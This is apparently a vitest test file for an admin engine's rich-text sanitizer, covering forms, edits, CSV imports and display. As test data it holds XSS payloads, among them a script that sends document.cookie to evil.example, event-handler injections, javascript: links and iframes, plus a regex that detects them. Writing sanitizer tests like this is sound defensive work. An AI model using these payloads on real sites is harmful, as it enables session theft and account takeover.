import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { activityJournal, bestPractices } from "~/db/schema";
import { defineResource } from "~/modules/admin/resource";
import { RESOURCES } from "~/modules/admin/resources.registry";
import { action as formAction, loader as formLoader } from "~/routes/admin/resource/form";
import { action as importAction } from "~/routes/admin/resource/import";
import { loader as listLoader } from "~/routes/admin/resource/list";
import { loader as viewLoader } from "~/routes/admin/resource/view";
import { callRoute, makeRequest, sessionCookieFor, startTestServices } from "../fixtures/services";

/**
 * Decision 0028: a "richtext" field's value is sanitized by the engine before it is written, whichever way it
 * comes (the form, an edit, a CSV import), and an "html" column is shown as sanitized HTML on a row's page.
 * A throwaway resource over best_practices (title, body: text) stands in for the coming content screens.
 */
const services = await startTestServices();
const db = services.db;
const adminCookie = await sessionCookieFor(services, "admin@example.com");

const BASE = "/admin/rich-text-test";
const declaration = defineResource({
  noun: "guide section",
  title: "Guide sections",
  description: "Sections of the Best practices guide.",
  table: bestPractices,
  id: bestPractices.id,
  operations: ["create", "update", "import"],
  schema: z.object({ title: z.string().min(2).max(120), body: z.string().min(1, "Write the section.").max(20_000) }),
  columns: [
    { key: "title", label: "Title", value: bestPractices.title, primary: true, sortable: true, searchable: true },
    { key: "body", label: "Text", value: bestPractices.body, format: "html" },
  ],
  fields: [
    { name: "title", label: "Title", kind: "text" },
    { name: "body", label: "Text", kind: "richtext" },
  ],
  defaultSort: { key: "title", dir: "asc" },
  titleOf: (r) => String(r.title),
  detail: {
    columns: [
      { key: "title", label: "Title", value: bestPractices.title },
      { key: "body", label: "Text", value: bestPractices.body, format: "html" },
    ],
  },
});

beforeAll(() => {
  RESOURCES.push({
    id: "admin.rich-text-test",
    path: "rich-text-test",
    subject: "QuickFact",
    load: async () => ({ default: declaration }),
  });
});
afterAll(() => {
  RESOURCES.splice(
    RESOURCES.findIndex((r) => r.id === "admin.rich-text-test"),
    1,
  );
});

type Fn = (args: any) => unknown;
function call(fn: Fn, pattern: string, path: string, init: Parameters<typeof makeRequest>[1] = {}, params = {}) {
  const request = makeRequest(path, init);
  const url = new URL(request.url);
  return callRoute(((a: object) => fn({ ...a, pattern, url })) as never, request, params);
}
const create = (form: Record<string, string>) =>
  call(formAction, `${BASE}/create`, `${BASE}/create`, { method: "POST", form, cookie: adminCookie });
const edit = (id: number, form: Record<string, string>) =>
  call(
    formAction,
    `${BASE}/:id/edit`,
    `${BASE}/${id}/edit`,
    { method: "POST", form, cookie: adminCookie },
    { id: String(id) },
  );
const rowTitled = async (title: string) =>
  (await db.select().from(bestPractices).where(eq(bestPractices.title, title)))[0];

const ATTACK =
  '<h2>Before you list</h2><p onclick="steal()">Check your <strong>points</strong>.' +
  "<script>fetch('https://evil.example/?c='+document.cookie)</script></p>" +
  '<img src=x onerror="alert(1)"><svg onload="alert(2)"></svg>' +
  '<p><a href="javascript:alert(3)">click</a> or <a href="https://example.com/help" target="_blank">help</a></p>' +
  '<iframe src="https://evil.example"></iframe><p style="position:fixed">styled</p>';
const CLEAN =
  "<h2>Before you list</h2><p>Check your <strong>points</strong>.</p>" +
  '<p><a>click</a> or <a href="https://example.com/help" rel="noopener noreferrer">help</a></p><p>styled</p>';

describe("a richtext field in the admin resource engine", () => {
  it("strips the script, handlers, images, svg, iframe and javascript: link before the create is written", async () => {
    const res = await create({ title: "Rich text create", body: ATTACK });
    expect(res.status).toBe(303);
    const row = await rowTitled("Rich text create");
    expect(row.body).toBe(CLEAN);
    expect(row.body).not.toMatch(/script|onerror|onclick|javascript:|<svg|<iframe|<img|style=/i);
  });

  it("sanitizes an edit too, and an edit that only adds markup the allow-list drops is no change", async () => {
    const row = await rowTitled("Rich text create");
    const res = await edit(row.id, {
      title: "Rich text create",
      body: '<p>Updated <em>text</em><script>alert("edit")</script><img src="data:image/png;base64,AAAA"></p>',
    });
    expect(res.status).toBe(303);
    expect((await rowTitled("Rich text create")).body).toBe("<p>Updated <em>text</em></p>");

    const journals = async () =>
      (await db.select().from(activityJournal).where(eq(activityJournal.kind, "admin.resource"))).length;
    const before = await journals();
    const same = await edit(row.id, {
      title: "Rich text create",
      body: "<p>Updated <em>text</em><style>*{}</style></p>",
    });
    expect(same.status).toBe(303);
    expect((await rowTitled("Rich text create")).body).toBe("<p>Updated <em>text</em></p>");
    expect(await journals()).toBe(before); // nothing changed, so nothing journaled
  });

  it("refuses a required body that is only markup (an empty editor, or nothing but a script)", async () => {
    for (const body of ["<p></p>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]) {
      const res = await create({ title: "Empty body", body });
      expect(res.status).toBe(400);
      expect(res.body.fields.body).toEqual(["Write the section."]);
    }
    expect(await rowTitled("Empty body")).toBeUndefined();
  });

  it("sanitizes every row of a CSV import, created or updated", async () => {
    const existing = await rowTitled("Rich text create");
    const csv = [
      "id,Title,Text",
      ',Imported section,"<p>Imported<script>alert(1)</script> <a href=""javascript:alert(1)"">x</a></p>"',
      `${existing.id},Rich text create,"<ul><li onmouseover=""alert(1)"">One</li></ul><iframe src=""//evil.example""></iframe>"`,
    ].join("\n");
    const res = await call(importAction, `${BASE}/import`, `${BASE}/import`, {
      method: "POST",
      form: { intent: "import", csv },
      cookie: adminCookie,
    });
    expect(res.status).toBe(200);
    expect(res.body.report).toMatchObject({ created: 1, updated: 1, errors: [] });
    expect((await rowTitled("Imported section")).body).toBe("<p>Imported <a>x</a></p>");
    expect((await rowTitled("Rich text create")).body).toBe("<ul><li>One</li></ul>");
  });

  it("shows stored HTML sanitized on the row's page, as text in the list, and sanitized in the edit form", async () => {
    // A row written around the engine (an old import, a hand-run SQL) is still shown through the allow-list.
    const [raw] = await db
      .insert(bestPractices)
      .values({ title: "Written around the engine", body: '<p>Hi<img src=x onerror="alert(1)"></p><h3>Sub</h3>' })
      .returning();
    const page = await call(
      viewLoader,
      `${BASE}/:id`,
      `${BASE}/${raw.id}`,
      { cookie: adminCookie },
      { id: String(raw.id) },
    );
    expect(page.status).toBe(200);
    expect(page.body.items.find((i: { key: string }) => i.key === "body")).toMatchObject({
      format: "html",
      value: "<p>Hi</p><h3>Sub</h3>",
    });

    const listed = await call(listLoader, BASE, `${BASE}?q=Written`, { cookie: adminCookie });
    expect(listed.body.rows[0].cells.body).toBe("Hi Sub");

    const form = await call(
      formLoader,
      `${BASE}/:id/edit`,
      `${BASE}/${raw.id}/edit`,
      { cookie: adminCookie },
      { id: String(raw.id) },
    );
    expect(form.body.values.body).toBe("<p>Hi</p><h3>Sub</h3>");
    expect(form.body.fields.find((f: { name: string }) => f.name === "body").kind).toBe("richtext");
  });
});
